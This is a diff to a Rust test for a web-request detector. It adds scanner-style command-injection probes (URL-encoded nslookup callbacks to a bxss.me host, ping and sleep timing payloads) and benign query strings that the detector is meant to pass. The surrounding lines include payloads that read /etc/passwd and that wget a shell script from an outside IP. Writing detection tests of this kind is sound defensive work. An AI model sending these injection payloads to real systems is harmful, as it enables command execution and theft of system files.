@@ -703,8 +703,24 @@ fn command_injection_family() {
             (&access("/x?c=;cat$IFS$9/etc/passwd", ua), "web.cmd-injection"),
             (&access("/cgi-bin/x?a=1;wget+http://198.51.100.9/x.sh", ua), "web.cmd-injection"),
             ("username=admin';ping -c 3 198.51.100.2;'", "web.cmd-injection"),
+            // Scanner probes separated by a single `&` (Acunetix, Netsparker), in the path and
+            // in the query, encoded and not.
+            (
+                &access(
+                    "/%26nslookup%20hitu4x8b2q.bxss.me%26'%5c\"`0%26nslookup%20hitu4x8b2q.bxss.me%26`'",
+                    ua,
+                ),
+                "web.cmd-injection",
+            ),
+            (&access("/?C=\"%26ping%20-c%2025%20127.0.0.1%20%26\"", ua), "web.cmd-injection"),
+            (&access("/index.php?page='&ping -c 25 127.0.0.1 &'", ua), "web.cmd-injection"),
+            (&access("/?C=&ping -c 25 127.0.0.1 &", ua), "web.cmd-injection"),
+            (&access("/x?host=a&sleep 10&", ua), "web.cmd-injection"),
         ],
         &[
+            &access("/?a=1&id=5&sleep=10&ping=yes&echo=x", ua),
+            &access("/search?q=tom&jerry&page=2", ua),
+            &access("/cal?view=month&cat=events&sort=date", ua),
             &access("/", "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119"),
             &access("/", "Mozilla/5.0 (Linux; U; Android 4.1.2; id-id; GT-S6310)"),
             &access("/a;jsessionid=0123?x=1", ua),
